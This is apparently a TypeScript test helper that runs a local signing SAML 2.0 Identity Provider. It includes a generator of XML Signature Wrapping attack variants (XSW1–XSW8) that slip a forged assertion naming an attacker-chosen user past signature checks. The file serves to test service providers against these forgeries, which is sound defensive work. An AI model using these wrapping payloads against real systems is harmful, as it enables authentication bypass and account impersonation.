import { createSign, createVerify, generateKeyPairSync, randomBytes } from 'node:crypto'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { deflateRawSync, inflateRawSync } from 'node:zlib'
import { DOMParser, XMLSerializer, type Document, type Element, type Node } from '@xmldom/xmldom'
import forge from 'node-forge'
import { SignedXml } from 'xml-crypto'

/*
 * A real, signing SAML 2.0 Identity Provider for tests, plus tools to forge
 * the malicious messages a Service Provider must refuse.
 *
 * Keys are generated at test time, messages are really signed, and the HTTP
 * server only ever listens on 127.0.0.1.
 */

const NS = {
  samlp: 'urn:oasis:names:tc:SAML:2.0:protocol',
  saml: 'urn:oasis:names:tc:SAML:2.0:assertion',
  ds: 'http://www.w3.org/2000/09/xmldsig#',
  xs: 'http://www.w3.org/2001/XMLSchema',
  xsi: 'http://www.w3.org/2001/XMLSchema-instance',
} as const

const STATUS_SUCCESS = 'urn:oasis:names:tc:SAML:2.0:status:Success'
const NAMEID_PERSISTENT = 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent'
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#'
const ENVELOPED_SIGNATURE = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature'

/** XML-DSig and redirect-binding identifiers of each supported algorithm. */
const ALGORITHMS = {
  sha256: {
    signature: 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
    digest: 'http://www.w3.org/2001/04/xmlenc#sha256',
    node: 'RSA-SHA256',
  },
  sha1: {
    signature: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
    digest: 'http://www.w3.org/2000/09/xmldsig#sha1',
    node: 'RSA-SHA1',
  },
} as const

/** Node hash names for the SigAlg values an SP may use on the redirect binding. */
const REDIRECT_SIG_ALGS: Record<string, string> = {
  'http://www.w3.org/2000/09/xmldsig#rsa-sha1': 'RSA-SHA1',
  'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256': 'RSA-SHA256',
  'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512': 'RSA-SHA512',
}

const DAY_MS = 24 * 60 * 60 * 1000

const NAMED_ENTITIES: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" }

// ---------------------------------------------------------------------------
// Types
// ---------------------------------------------------------------------------

/** A PEM private key (PKCS#8) and its PEM certificate. */
export type KeyPair = { privateKeyPem: string; certificatePem: string }

/** The user the IdP will assert for the next SSO request. */
export type IdpUser = {
  nameId: string
  /** Defaults to `urn:oasis:names:tc:SAML:2.0:nameid-format:persistent`. */
  nameIdFormat?: string
  /** A multi-valued attribute gives several `<AttributeValue>`. */
  attributes?: Record<string, string | string[]>
  /** Defaults to a random ID. */
  sessionIndex?: string
}

/** What goes into a `<samlp:Response>`. */
export type ResponseOptions = {
  /** `null` (or absent) omits the attribute. */
  inResponseTo?: string | null
  /** ACS URL: Response@Destination and SubjectConfirmationData@Recipient. */
  destination: string
  /** SP entity ID, the `<Audience>`. */
  audience: string
  user: IdpUser
  /** Defaults to the IdP entity ID. */
  issuer?: string
  /** Response, Assertion and AuthnInstant; defaults to now. */
  issueInstant?: Date
  /** Conditions@NotBefore; defaults to now - 60 s. */
  notBefore?: Date
  /** Conditions@NotOnOrAfter and SubjectConfirmationData@NotOnOrAfter; defaults to now + 5 min. */
  notOnOrAfter?: Date
  /** Top-level status code; defaults to Success. */
  status?: string
  /** Second-level status code, e.g. `urn:oasis:names:tc:SAML:2.0:status:NoPassive`. */
  subStatus?: string
  statusMessage?: string
  /**
   * Whether to include the Assertion. Defaults to true for a Success status
   * and false otherwise, as real IdPs send no assertion with an error.
   */
  includeAssertion?: boolean
  /** Fixed IDs, e.g. to build two different responses with the same assertion ID. */
  responseId?: string
  assertionId?: string
}

/** How {@link TestIdp.sign} signs a Response. */
export type SignOptions = {
  /** Sign the Assertion (default true). */
  assertion?: boolean
  /** Sign the Response, over the signed Assertion (default true). */
  response?: boolean
  /** Defaults to the IdP's own keys; pass another pair to test "wrong key". */
  keys?: KeyPair
  /** Both SignatureMethod and DigestMethod; default sha256. */
  algorithm?: 'sha256' | 'sha1'
}

/** How a HTTP-Redirect binding message is signed. */
export type RedirectSignOptions = {
  /** Default true; false leaves out SigAlg and Signature. */
  signed?: boolean
  /** Defaults to the IdP's own keys. */
  keys?: KeyPair
  /** Default sha256. */
  algorithm?: 'sha256' | 'sha1'
}

/** How a HTTP-POST binding logout message is signed (enveloped XML signature on its root). */
export type PostSignOptions = {
  /** Default true; false sends the message unsigned. */
  signed?: boolean
  /** Defaults to the IdP's own keys. */
  keys?: KeyPair
  /** SignatureMethod and DigestMethod; default sha256. */
  algorithm?: 'sha256' | 'sha1'
}

/** The fields of a HTTP-POST binding form. */
export type PostFields = Record<string, string>

/** Options of an IdP-initiated LogoutRequest. */
export type LogoutRequestOptions = {
  nameId: string
  /** Defaults to persistent. */
  nameIdFormat?: string
  sessionIndex?: string
  /** Defaults to the SP SLO URL. */
  destination?: string
  relayState?: string
  /** Defaults to a random ID. */
  id?: string
  /** Defaults to the IdP entity ID. */
  issuer?: string
  /** LogoutRequest@NotOnOrAfter; defaults to now + 5 min. */
  notOnOrAfter?: Date
}

/** Options of a LogoutResponse to an SP-initiated LogoutRequest. */
export type LogoutResponseOptions = {
  inResponseTo: string
  /** Defaults to the SP SLO URL. */
  destination?: string
  relayState?: string
  /** Defaults to Success. */
  status?: string
  /** Defaults to the IdP entity ID. */
  issuer?: string
}

/** An AuthnRequest received on GET /sso. */
export type ParsedAuthnRequest = {
  id: string
  issuer: string
  acsUrl: string | null
  destination: string | null
  relayState: string | null
  /** `null` when no SP certificate is configured or the request is unsigned. */
  signatureValid: boolean | null
  isPassive: boolean
  forceAuthn: boolean
  xml: string
}

/** A LogoutRequest received on GET /slo (SP-initiated logout). */
export type ParsedLogoutRequest = {
  id: string
  issuer: string
  nameId: string | null
  sessionIndex: string | null
  destination: string | null
  relayState: string | null
  signatureValid: boolean | null
  xml: string
}

/** A LogoutResponse received on GET /slo (the SP's answer to IdP-initiated logout). */
export type ParsedLogoutResponse = {
  id: string
  inResponseTo: string | null
  issuer: string
  status: string | null
  relayState: string | null
  signatureValid: boolean | null
  xml: string
}

/** One HTTP request the IdP server received. */
export type ReceivedRequest = { method: string; path: string; query: Record<string, string> }

/** Options of {@link TestIdp}. */
export type TestIdpOptions = {
  /** Defaults to `http://127.0.0.1/test-idp`. */
  entityId?: string
  /** Defaults to a freshly generated pair. */
  keys?: KeyPair
  /** When set, redirect-binding signatures of SP messages are verified with it. */
  spCertificatePem?: string
  /** Where GET /slo sends the LogoutResponse to an SP-initiated LogoutRequest. */
  spSloUrl?: string
  /** ACS URL used when an AuthnRequest names none. */
  spAcsUrl?: string
  /** How GET /slo answers an SP-initiated LogoutRequest; default HTTP-Redirect. */
  sloBinding?: 'redirect' | 'post'
}

// ---------------------------------------------------------------------------
// Keys and encodings
// ---------------------------------------------------------------------------

/**
 * An RSA-2048 key and a self-signed X.509 certificate (node-forge), valid
 * from one day ago for one year, signed with SHA-256.
 */
export function generateKeyPair(commonName: string): KeyPair {
  // Node's native key generation: forge's pure-JS RSA is slow for 2048 bits.
  const { privateKey, publicKey } = generateKeyPairSync('rsa', {
    modulusLength: 2048,
    publicKeyEncoding: { type: 'spki', format: 'pem' },
    privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
  })

  const cert = forge.pki.createCertificate()
  cert.publicKey = forge.pki.publicKeyFromPem(publicKey)
  // A leading 01 keeps the DER serial positive.
  cert.serialNumber = `01${randomBytes(8).toString('hex')}`
  const notBefore = new Date(Date.now() - DAY_MS)
  cert.validity.notBefore = notBefore
  cert.validity.notAfter = new Date(notBefore.getTime() + 365 * DAY_MS)
  const name = [{ name: 'commonName', value: commonName }]
  cert.setSubject(name)
  cert.setIssuer(name)
  cert.setExtensions([
    { name: 'basicConstraints', cA: false },
    { name: 'keyUsage', digitalSignature: true, nonRepudiation: true },
  ])
  cert.sign(forge.pki.privateKeyFromPem(privateKey), forge.md.sha256.create())

  return { privateKeyPem: privateKey, certificatePem: forge.pki.certificateToPem(cert) }
}

/** Base64 of the XML: the value of a HTTP-POST binding SAMLResponse/SAMLRequest field. */
export function encodeSamlPost(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64')
}

/** The XML inside a HTTP-POST binding SAMLResponse/SAMLRequest field. */
export function decodeSamlPost(value: string): string {
  return Buffer.from(value, 'base64').toString('utf8')
}

/** DEFLATE + base64 of the XML: a HTTP-Redirect binding value, before URL encoding. */
export function encodeSamlRedirect(xml: string): string {
  return deflateRawSync(Buffer.from(xml, 'utf8')).toString('base64')
}

/**
 * The XML inside a HTTP-Redirect binding SAMLRequest/SAMLResponse value
 * (already URL-decoded, as `URLSearchParams.get` returns it).
 */
export function decodeSamlRedirect(value: string): string {
  return inflateRawSync(Buffer.from(value, 'base64')).toString('utf8')
}

// ---------------------------------------------------------------------------
// Small XML helpers
// ---------------------------------------------------------------------------

function newId(): string {
  // xs:ID must start with a letter or underscore.
  return `_${randomBytes(20).toString('hex')}`
}

/** ISO 8601 UTC without milliseconds, the form every SAML stack parses. */
function samlTime(date: Date): string {
  return date.toISOString().replace(/\.\d{3}Z$/, 'Z')
}

function escapeXml(value: string): string {
  return value
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&apos;')
}

function escapeHtml(value: string): string {
  return value
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;')
}

function unescapeHtml(value: string): string {
  return value.replace(/&(#x[0-9a-f]+|#\d+|amp|lt|gt|quot|apos);/gi, (match, entity: string) => {
    const lower = entity.toLowerCase()
    if (lower.startsWith('#x')) return String.fromCodePoint(Number.parseInt(lower.slice(2), 16))
    if (lower.startsWith('#')) return String.fromCodePoint(Number.parseInt(lower.slice(1), 10))
    return NAMED_ENTITIES[lower] ?? match
  })
}

/** `name="value"` pairs, value escaped; undefined/null values are left out. */
function xmlAttributes(attributes: Record<string, string | null | undefined>): string {
  return Object.entries(attributes)
    .filter((entry): entry is [string, string] => typeof entry[1] === 'string')
    .map(([name, value]) => ` ${name}="${escapeXml(value)}"`)
    .join('')
}

function parseXml(xml: string): Document {
  return new DOMParser({
    onError: (level, message) => {
      if (level !== 'warning') throw new Error(`Invalid XML: ${message}`)
    },
  }).parseFromString(xml, 'text/xml')
}

function serializeXml(doc: Document): string {
  return new XMLSerializer().serializeToString(doc)
}

function isElement(node: Node): node is Element {
  return node.nodeType === 1 // Node.ELEMENT_NODE
}

function childElements(parent: Node): Element[] {
  return Array.from(parent.childNodes).filter(isElement)
}

function childElement(parent: Node, namespace: string, localName: string): Element | null {
  return (
    childElements(parent).find(
      (el) => el.namespaceURI === namespace && el.localName === localName
    ) ?? null
  )
}

function rootElement(doc: Document): Element {
  const root = doc.documentElement
  if (!root) throw new Error('XML document has no root element')
  return root
}

function textOf(element: Element | null): string | null {
  return element ? (element.textContent ?? '').trim() : null
}

// ---------------------------------------------------------------------------
// Signing
// ---------------------------------------------------------------------------

/**
 * Enveloped XML-DSig signature of the element `localName` whose ID is `id`,
 * placed right after its `<saml:Issuer>` as the SAML schema requires.
 */
function signElement(
  xml: string,
  localName: string,
  id: string,
  keys: KeyPair,
  algorithm: keyof typeof ALGORITHMS
): string {
  const { signature, digest } = ALGORITHMS[algorithm]
  const selector = `//*[local-name(.)='${localName}' and @ID='${id}']`
  const signer = new SignedXml({
    privateKey: keys.privateKeyPem,
    // Puts the certificate in KeyInfo/X509Data, as real IdPs do.
    publicCert: keys.certificatePem,
    canonicalizationAlgorithm: EXC_C14N,
    signatureAlgorithm: signature,
  })
  signer.addReference({
    xpath: selector,
    transforms: [ENVELOPED_SIGNATURE, EXC_C14N],
    digestAlgorithm: digest,
  })
  signer.computeSignature(xml, {
    prefix: 'ds',
    location: { reference: `${selector}/*[local-name(.)='Issuer']`, action: 'after' },
  })
  return signer.getSignedXml()
}

/**
 * The HTTP-Redirect binding query (SAML bindings §3.4.4.1): the signature
 * covers `SAMLRequest=…&RelayState=…&SigAlg=…` exactly as sent.
 */
function redirectQuery(
  parameter: 'SAMLRequest' | 'SAMLResponse',
  xml: string,
  relayState: string | undefined,
  keys: KeyPair,
  options: RedirectSignOptions
): string {
  let query = `${parameter}=${encodeURIComponent(encodeSamlRedirect(xml))}`
  if (relayState !== undefined) query += `&RelayState=${encodeURIComponent(relayState)}`
  if (options.signed === false) return query

  const algorithm = ALGORITHMS[options.algorithm ?? 'sha256']
  query += `&SigAlg=${encodeURIComponent(algorithm.signature)}`
  const signature = createSign(algorithm.node)
    .update(query)
    .sign((options.keys ?? keys).privateKeyPem, 'base64')
  return `${query}&Signature=${encodeURIComponent(signature)}`
}

function postFields(
  parameter: 'SAMLRequest' | 'SAMLResponse',
  xml: string,
  relayState: string | undefined
): PostFields {
  const fields: PostFields = { [parameter]: encodeSamlPost(xml) }
  if (relayState !== undefined) fields.RelayState = relayState
  return fields
}

function appendQuery(url: string, query: string): string {
  return `${url}${url.includes('?') ? '&' : '?'}${query}`
}

/**
 * Verifies a HTTP-Redirect binding signature over the raw query string.
 * `null` when the message carries no Signature.
 */
function verifyRedirectSignature(rawQuery: string, certificatePem: string): boolean | null {
  // The signed octets are the parameters as received, still URL-encoded.
  const raw = new Map<string, string>()
  for (const pair of rawQuery.split('&')) {
    const index = pair.indexOf('=')
    const name = index < 0 ? pair : pair.slice(0, index)
    if (!raw.has(name)) raw.set(name, pair)
  }
  const params = new URLSearchParams(rawQuery)
  const signature = params.get('Signature')
  if (signature === null) return null

  const hash = REDIRECT_SIG_ALGS[params.get('SigAlg') ?? '']
  const message = raw.get('SAMLRequest') ?? raw.get('SAMLResponse')
  const sigAlg = raw.get('SigAlg')
  if (!hash || !message || !sigAlg) return false

  const signed = [message, raw.get('RelayState'), sigAlg].filter(Boolean).join('&')
  try {
    return createVerify(hash).update(signed).verify(certificatePem, signature, 'base64')
  } catch {
    return false
  }
}

// ---------------------------------------------------------------------------
// Auto-post form
// ---------------------------------------------------------------------------

function autoPostForm(action: string, fields: Record<string, string>): string {
  const inputs = Object.entries(fields)
    .map(
      ([name, value]) =>
        `<input type="hidden" name="${escapeHtml(name)}" value="${escapeHtml(value)}"/>`
    )
    .join('\n')
  return [
    '<!DOCTYPE html>',
    '<html><head><meta charset="utf-8"><title>Signing in</title></head><body>',
    `<form method="post" action="${escapeHtml(action)}">`,
    inputs,
    '<noscript><button type="submit">Continue</button></noscript>',
    '</form>',
    '<script>document.forms[0].submit()</script>',
    '</body></html>',
  ].join('\n')
}

function htmlAttributes(tag: string): Record<string, string> {
  const attributes: Record<string, string> = {}
  for (const match of tag.matchAll(/([^\s=<>/"']+)\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+))/g)) {
    attributes[match[1].toLowerCase()] = unescapeHtml(match[2] ?? match[3] ?? match[4] ?? '')
  }
  return attributes
}

/** The action and hidden fields of the HTML auto-post page GET /sso answers. */
export function parseAutoPostForm(html: string): {
  action: string
  fields: Record<string, string>
} {
  const form = /<form\b[^>]*>/i.exec(html)
  if (!form) throw new Error('No <form> in the page')
  const action = htmlAttributes(form[0]).action
  if (action === undefined) throw new Error('The <form> has no action')

  const fields: Record<string, string> = {}
  for (const [input] of html.matchAll(/<input\b[^>]*>/gi)) {
    const attributes = htmlAttributes(input)
    if (attributes.type?.toLowerCase() === 'hidden' && attributes.name !== undefined) {
      fields[attributes.name] = attributes.value ?? ''
    }
  }
  return { action, fields }
}

// ---------------------------------------------------------------------------
// XML Signature Wrapping
// ---------------------------------------------------------------------------

/** One XML Signature Wrapping attack document. */
export type WrappingVariant = { name: string; xml: string }

/** A freshly parsed copy of the signed response, for one variant. */
type WrapTarget = {
  doc: Document
  response: Element
  assertion: Element
  assertionSignature: Element | null
  responseSignature: Element | null
}

function wrapTarget(signedResponseXml: string): WrapTarget {
  const doc = parseXml(signedResponseXml)
  const response = rootElement(doc)
  const assertion = childElement(response, NS.saml, 'Assertion')
  if (!assertion) throw new Error('The response has no Assertion to wrap')
  return {
    doc,
    response,
    assertion,
    assertionSignature: childElement(assertion, NS.ds, 'Signature'),
    responseSignature: childElement(response, NS.ds, 'Signature'),
  }
}

function removeSignature(element: Element): void {
  const signature = childElement(element, NS.ds, 'Signature')
  if (signature) element.removeChild(signature)
}

/** A copy of the assertion naming `evilNameId`, as an attacker would forge it. */
function evilAssertion(
  assertion: Element,
  evilNameId: string,
  options: { sameId: boolean; keepSignature: boolean }
): Element {
  const evil = assertion.cloneNode(true) as Element
  if (!options.keepSignature) removeSignature(evil)
  if (!options.sameId) evil.setAttribute('ID', newId())
  const subject = childElement(evil, NS.saml, 'Subject')
  const nameId = subject && childElement(subject, NS.saml, 'NameID')
  if (!nameId) throw new Error('The assertion has no Subject/NameID')
  nameId.textContent = evilNameId
  return evil
}

/**
 * XML Signature Wrapping variants (the XSW1–XSW8 family of "On Breaking
 * SAML", Somorovsky et al. 2012) of a signed Response, each named. Every
 * variant keeps the original signed content somewhere so its digest still
 * matches, and puts an Assertion naming `evilNameId` where a naive consumer
 * reads it: the first `/Response/Assertion`. XSW1/XSW2 are only produced
 * when the Response itself is signed, XSW5/6/8 when the Assertion is.
 */
export function namedSignatureWrappingVariants(
  signedResponseXml: string,
  evilNameId: string
): WrappingVariant[] {
  const variants: WrappingVariant[] = []
  const add = (name: string, build: (target: WrapTarget) => void) => {
    const target = wrapTarget(signedResponseXml)
    build(target)
    variants.push({ name, xml: serializeXml(target.doc) })
  }

  // XSW3: an unsigned evil assertion (fresh ID) before the signed one.
  add('xsw3-evil-before-signed', ({ response, assertion }) => {
    const evil = evilAssertion(assertion, evilNameId, { sameId: false, keepSignature: false })
    response.insertBefore(evil, assertion)
  })

  // XSW3 with a duplicated ID: an ID lookup may resolve to either copy.
  add('xsw3-evil-before-signed-same-id', ({ response, assertion }) => {
    const evil = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: false })
    response.insertBefore(evil, assertion)
  })

  // XSW4: the evil assertion takes the signed one's place and wraps it.
  add('xsw4-signed-inside-evil', ({ response, assertion }) => {
    const evil = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: false })
    response.replaceChild(evil, assertion)
    evil.appendChild(assertion)
  })

  // XSW7: the signed assertion hidden in <samlp:Extensions>, the evil one in its place.
  add('xsw7-signed-in-extensions', ({ doc, response, assertion }) => {
    const evil = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: false })
    response.replaceChild(evil, assertion)
    const extensions = doc.createElementNS(NS.samlp, 'samlp:Extensions')
    extensions.appendChild(assertion)
    // Schema position: after Issuer and Signature, before Status.
    response.insertBefore(extensions, childElement(response, NS.samlp, 'Status') ?? evil)
  })

  if (wrapTarget(signedResponseXml).assertionSignature) {
    // XSW5: the evil assertion carries the copied signature; the original,
    // unsigned, is appended at the end of the response.
    add('xsw5-evil-with-copied-signature', ({ response, assertion }) => {
      const evil = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: true })
      response.replaceChild(evil, assertion)
      removeSignature(assertion)
      response.appendChild(assertion)
    })

    // XSW6: the original, unsigned, inside the evil assertion's copied signature.
    add('xsw6-signed-inside-copied-signature', ({ response, assertion }) => {
      const evil = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: true })
      response.replaceChild(evil, assertion)
      removeSignature(assertion)
      childElement(evil, NS.ds, 'Signature')!.appendChild(assertion)
    })

    // XSW8: the original, unsigned, in a <ds:Object> of the copied signature.
    add('xsw8-signed-in-signature-object', ({ doc, response, assertion }) => {
      const evil = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: true })
      response.replaceChild(evil, assertion)
      removeSignature(assertion)
      const object = doc.createElementNS(NS.ds, 'ds:Object')
      object.appendChild(assertion)
      childElement(evil, NS.ds, 'Signature')!.appendChild(object)
    })
  }

  if (wrapTarget(signedResponseXml).responseSignature) {
    // XSW1/XSW2: an evil Response (fresh ID, evil assertion, copied response
    // signature) holding the original Response, unsigned, inside its
    // signature (XSW1) or just before it (XSW2).
    const evilResponse = (target: WrapTarget, placement: 'inside' | 'before') => {
      const { doc, response, assertion } = target
      const evil = response.cloneNode(true) as Element
      evil.setAttribute('ID', newId())
      const evilCopy = evilAssertion(assertion, evilNameId, { sameId: true, keepSignature: false })
      evil.replaceChild(evilCopy, childElement(evil, NS.saml, 'Assertion')!)
      const copiedSignature = childElement(evil, NS.ds, 'Signature')!
      doc.replaceChild(evil, response)
      removeSignature(response)
      if (placement === 'inside') copiedSignature.appendChild(response)
      else evil.insertBefore(response, copiedSignature)
    }
    add('xsw1-response-inside-signature', (target) => evilResponse(target, 'inside'))
    add('xsw2-response-before-signature', (target) => evilResponse(target, 'before'))
  }

  return variants
}

/**
 * XML Signature Wrapping variants of a signed Response: full XML strings,
 * each keeping the original signed content while an Assertion naming
 * `evilNameId` sits where a naive consumer reads it. See
 * {@link namedSignatureWrappingVariants} for the list (at least 4).
 */
export function signatureWrappingVariants(signedResponseXml: string, evilNameId: string): string[] {
  return namedSignatureWrappingVariants(signedResponseXml, evilNameId).map(({ xml }) => xml)
}

// ---------------------------------------------------------------------------
// The Identity Provider
// ---------------------------------------------------------------------------

/**
 * A signing SAML 2.0 Identity Provider on 127.0.0.1.
 *
 * - GET /sso (HTTP-Redirect AuthnRequest): 200 auto-post form with a signed
 *   Response for the user set with {@link signInAs}, 401 when nobody is
 *   signed in, 400 when the request's signature is invalid.
 * - GET /slo?SAMLRequest (SP-initiated logout): signs the user out and
 *   answers `spSloUrl` with a signed LogoutResponse: a 302 (HTTP-Redirect)
 *   or an auto-post form (HTTP-POST, `sloBinding: 'post'`).
 * - GET /slo?SAMLResponse (answer to IdP-initiated logout): recorded, 200.
 */
export class TestIdp {
  readonly entityId: string
  readonly keys: KeyPair
  /** Verifies SP redirect-binding signatures when set. */
  spCertificatePem: string | undefined
  /** The SP's SLO endpoint, where GET /slo sends its LogoutResponse. */
  spSloUrl: string | undefined
  /** ACS URL for AuthnRequests that name none. */
  spAcsUrl: string | undefined
  /** The binding of the LogoutResponse GET /slo sends back to the SP. */
  sloBinding: 'redirect' | 'post'

  /** Everything the server received, for assertions. */
  readonly received: ReceivedRequest[] = []
  /** AuthnRequests received on /sso, parsed. */
  readonly authnRequests: ParsedAuthnRequest[] = []
  /** LogoutRequests received on /slo, parsed. */
  readonly logoutRequests: ParsedLogoutRequest[] = []
  /** LogoutResponses received on /slo, parsed. */
  readonly logoutResponses: ParsedLogoutResponse[] = []

  #user: IdpUser | null = null
  #server: Server | null = null
  #port: number | null = null

  constructor(options: TestIdpOptions = {}) {
    this.entityId = options.entityId ?? 'http://127.0.0.1/test-idp'
    this.keys = options.keys ?? generateKeyPair('Test IdP')
    this.spCertificatePem = options.spCertificatePem
    this.spSloUrl = options.spSloUrl
    this.spAcsUrl = options.spAcsUrl
    this.sloBinding = options.sloBinding ?? 'redirect'
  }

  /** `http://127.0.0.1:PORT`; set after {@link start}. */
  get baseUrl(): string {
    if (this.#port === null) throw new Error('TestIdp is not started')
    return `http://127.0.0.1:${this.#port}`
  }

  /** The HTTP-Redirect SSO endpoint. */
  get ssoUrl(): string {
    return `${this.baseUrl}/sso`
  }

  /** The HTTP-Redirect SLO endpoint. */
  get sloUrl(): string {
    return `${this.baseUrl}/slo`
  }

  /** The user signed in at the IdP, if any. */
  get user(): IdpUser | null {
    return this.#user
  }

  /** Listens on 127.0.0.1 at the given port (0 = a free one). */
  async start(port = 0): Promise<void> {
    if (this.#server) throw new Error('TestIdp is already started')
    const server = createServer((request, response) => this.#handle(request, response))
    await new Promise<void>((resolve, reject) => {
      server.once('error', reject)
      server.listen(port, '127.0.0.1', () => {
        server.off('error', reject)
        resolve()
      })
    })
    this.#server = server
    this.#port = (server.address() as AddressInfo).port
  }

  /** Closes the server and any open connection. */
  async stop(): Promise<void> {
    const server = this.#server
    if (!server) return
    this.#server = null
    this.#port = null
    await new Promise<void>((resolve, reject) => {
      server.close((error) => (error ? reject(error) : resolve()))
      server.closeAllConnections()
    })
  }

  /** Who is "logged in at the IdP": GET /sso asserts this user. */
  signInAs(user: IdpUser): void {
    this.#user = user
  }

  /** Ends the IdP session: GET /sso then answers 401. */
  signOut(): void {
    this.#user = null
  }

  /** Forgets every recorded request. */
  clearRecorded(): void {
    this.received.length = 0
    this.authnRequests.length = 0
    this.logoutRequests.length = 0
    this.logoutResponses.length = 0
  }

  /** Unsigned Response XML with one Assertion (none for a non-Success status by default). */
  buildResponseXml(options: ResponseOptions): string {
    const now = Date.now()
    const issuer = escapeXml(options.issuer ?? this.entityId)
    const issueInstant = samlTime(options.issueInstant ?? new Date(now))
    const notBefore = samlTime(options.notBefore ?? new Date(now - 60_000))
    const notOnOrAfter = samlTime(options.notOnOrAfter ?? new Date(now + 5 * 60_000))
    const inResponseTo = options.inResponseTo ?? undefined
    const status = options.status ?? STATUS_SUCCESS
    const includeAssertion = options.includeAssertion ?? status === STATUS_SUCCESS
    const { user } = options

    const subStatus = options.subStatus
      ? `<samlp:StatusCode${xmlAttributes({ Value: options.subStatus })}/>`
      : ''
    const statusMessage = options.statusMessage
      ? `<samlp:StatusMessage>${escapeXml(options.statusMessage)}</samlp:StatusMessage>`
      : ''
    const statusXml =
      `<samlp:Status><samlp:StatusCode${xmlAttributes({ Value: status })}>${subStatus}` +
      `</samlp:StatusCode>${statusMessage}</samlp:Status>`

    const attributes = Object.entries(user.attributes ?? {})
      .map(([name, value]) => {
        const values = (Array.isArray(value) ? value : [value])
          .map(
            (item) =>
              `<saml:AttributeValue${xmlAttributes({ 'xmlns:xs': NS.xs, 'xmlns:xsi': NS.xsi })}` +
              ` xsi:type="xs:string">${escapeXml(item)}</saml:AttributeValue>`
          )
          .join('')
        const nameFormat = 'urn:oasis:names:tc:SAML:2.0:attrname-format:uri'
        const attribute = xmlAttributes({ Name: name, NameFormat: nameFormat })
        return `<saml:Attribute${attribute}>${values}</saml:Attribute>`
      })
      .join('')

    const assertion =
      `<saml:Assertion${xmlAttributes({
        ID: options.assertionId ?? newId(),
        Version: '2.0',
        IssueInstant: issueInstant,
      })}>` +
      `<saml:Issuer>${issuer}</saml:Issuer>` +
      `<saml:Subject>` +
      `<saml:NameID${xmlAttributes({ Format: user.nameIdFormat ?? NAMEID_PERSISTENT })}>` +
      `${escapeXml(user.nameId)}</saml:NameID>` +
      `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">` +
      `<saml:SubjectConfirmationData${xmlAttributes({
        InResponseTo: inResponseTo,
        NotOnOrAfter: notOnOrAfter,
        Recipient: options.destination,
      })}/>` +
      `</saml:SubjectConfirmation>` +
      `</saml:Subject>` +
      `<saml:Conditions${xmlAttributes({ NotBefore: notBefore, NotOnOrAfter: notOnOrAfter })}>` +
      `<saml:AudienceRestriction><saml:Audience>${escapeXml(options.audience)}</saml:Audience>` +
      `</saml:AudienceRestriction></saml:Conditions>` +
      `<saml:AuthnStatement${xmlAttributes({
        AuthnInstant: issueInstant,
        SessionIndex: user.sessionIndex ?? newId(),
      })}>` +
      `<saml:AuthnContext><saml:AuthnContextClassRef>` +
      `urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport` +
      `</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
      (attributes ? `<saml:AttributeStatement>${attributes}</saml:AttributeStatement>` : '') +
      `</saml:Assertion>`

    return (
      `<samlp:Response${xmlAttributes({
        'xmlns:samlp': NS.samlp,
        'xmlns:saml': NS.saml,
        'ID': options.responseId ?? newId(),
        'Version': '2.0',
        'IssueInstant': issueInstant,
        'Destination': options.destination,
        'InResponseTo': inResponseTo,
      })}>` +
      `<saml:Issuer>${issuer}</saml:Issuer>` +
      statusXml +
      (includeAssertion ? assertion : '') +
      `</samlp:Response>`
    )
  }

  /**
   * Signs the first Assertion, then the root element (the Response), so the
   * response signature covers the signed assertion. Each signature is
   * enveloped and placed right after the element's Issuer.
   */
  sign(xml: string, options: SignOptions = {}): string {
    const keys = options.keys ?? this.keys
    const algorithm = options.algorithm ?? 'sha256'
    let signed = xml

    if (options.assertion ?? true) {
      const assertion = childElement(rootElement(parseXml(signed)), NS.saml, 'Assertion')
      const id = assertion?.getAttribute('ID')
      if (id) signed = signElement(signed, 'Assertion', id, keys, algorithm)
    }
    if (options.response ?? true) {
      const root = rootElement(parseXml(signed))
      const id = root.getAttribute('ID')
      if (!id) throw new Error('The root element has no ID to sign')
      signed = signElement(signed, root.localName ?? 'Response', id, keys, algorithm)
    }
    return signed
  }

  /** Build + sign + base64: the value of the SAMLResponse form field. */
  createSamlResponse(options: ResponseOptions, sign: SignOptions = {}): string {
    return encodeSamlPost(this.sign(this.buildResponseXml(options), sign))
  }

  /** Unsigned IdP-initiated LogoutRequest XML. */
  buildLogoutRequestXml(spSloUrl: string, options: LogoutRequestOptions): string {
    const now = Date.now()
    const sessionIndex = options.sessionIndex
      ? `<samlp:SessionIndex>${escapeXml(options.sessionIndex)}</samlp:SessionIndex>`
      : ''
    return (
      `<samlp:LogoutRequest${xmlAttributes({
        'xmlns:samlp': NS.samlp,
        'xmlns:saml': NS.saml,
        'ID': options.id ?? newId(),
        'Version': '2.0',
        'IssueInstant': samlTime(new Date(now)),
        'Destination': options.destination ?? spSloUrl,
        'NotOnOrAfter': samlTime(options.notOnOrAfter ?? new Date(now + 5 * 60_000)),
      })}>` +
      `<saml:Issuer>${escapeXml(options.issuer ?? this.entityId)}</saml:Issuer>` +
